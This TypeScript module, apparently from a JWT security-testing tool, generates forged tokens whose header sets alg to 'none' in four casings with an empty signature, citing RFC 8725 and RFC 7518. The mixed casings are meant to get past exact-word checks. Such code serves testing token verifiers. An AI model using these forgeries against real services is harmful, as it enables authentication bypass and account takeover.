/** `alg` none in four spellings. Not: a token whose `alg` is left as it was (stripped-signature.ts). */
import { rfc } from '#sources/sources';
import type { Forgery } from '../forgery';
import { unsigned, withParameters } from '../header';

export default {
  label: 'alg: none',
  order: 1,
  says: 'The header says that the token is not signed, and the signature is left empty. Other spellings get past a check for the exact word.',
  sources: [rfc(8725, '2.1'), rfc(7518, '3.6')],
  forge: async ({ header, payload }) =>
    ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({
      label: `alg: ${alg}`,
      compact: unsigned(withParameters(header, { alg }), payload),
    })),
} satisfies Forgery;
